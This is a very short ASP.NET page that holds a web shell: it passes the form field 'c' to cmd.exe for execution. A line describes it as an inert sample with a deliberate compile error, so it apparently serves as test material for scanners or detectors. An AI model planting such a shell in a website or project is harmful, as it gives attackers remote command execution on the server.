<%@ Page Language="C#" %>
<% shodo inert sample: deliberate compile error, this page never runs %>
<% var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]);
System.Diagnostics.Process.Start(psi); %>
